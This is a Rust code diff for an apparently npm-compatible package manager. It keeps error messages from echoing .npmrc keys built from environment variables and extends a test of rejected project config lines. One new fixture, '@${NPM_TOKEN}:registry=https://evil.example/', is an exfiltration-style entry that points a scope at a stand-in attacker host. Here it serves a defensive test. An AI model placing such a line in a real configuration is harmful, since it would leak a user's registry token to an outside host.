@@ -346,16 +346,19 @@ impl Entries {
             .entries
             .iter()
             .find(|e| e.from_env && names_a_place(&e.key))?;
+        // A key built from the environment is not shown either.
+        let key = match entry.key_from_env {
+            false => format!("`{}`", entry.key),
+            true => "A key built from an environment variable".to_string(),
+        };
         // No option is at fault: no `field`.
         Some(Error::new(
             Code::InvalidInput,
             format!(
-                "`{}` in {} takes its value from an environment variable (`${{...}}`), and that \
+                "{key} in {} takes its value from an environment variable (`${{...}}`), and that \
                  file is the checkout's: it could send what the variable holds to any host. Write \
-                 the value itself there, or set `{}` in your user .npmrc.",
-                entry.key,
+                 the value itself there, or set it in your user .npmrc.",
                 path.display(),
-                entry.key
             ),
         ))
     }
@@ -406,6 +409,7 @@ fn env_layer(env: &EnvVars) -> Entries {
                 key,
                 value,
                 from_env: false,
+                key_from_env: false,
             })
             .collect(),
     }
@@ -1062,13 +1066,19 @@ mod tests {
             ("noproxy=${NPM_TOKEN}", "pkg"),
             ("prefix=/tmp/${NPM_TOKEN}", "pkg"),
             ("userconfig=/tmp/${NPM_TOKEN}/.npmrc", "pkg"),
+            ("@${NPM_TOKEN}:registry=https://evil.example/", "pkg"),
         ] {
             sb.write("project/.npmrc", &format!("{line}\n"));
             let pkg = PackageName::parse(pkg).unwrap();
             let err = resolve(&sb.load(&env), &Overrides::default(), Some(&pkg)).expect_err(line);
             assert_eq!(err.code, Code::InvalidInput, "{line}");
             let key = line.split('=').next().unwrap();
-            assert!(err.message.contains(&format!("`{key}`")), "{}", err.message);
+            let named = !key.contains('$');
+            assert!(
+                !named || err.message.contains(&format!("`{key}`")),
+                "{}",
+                err.message
+            );
             assert!(err.message.contains(".npmrc"), "{}", err.message);
             assert!(!err.message.contains("SECRET"), "{}", err.message);
         }
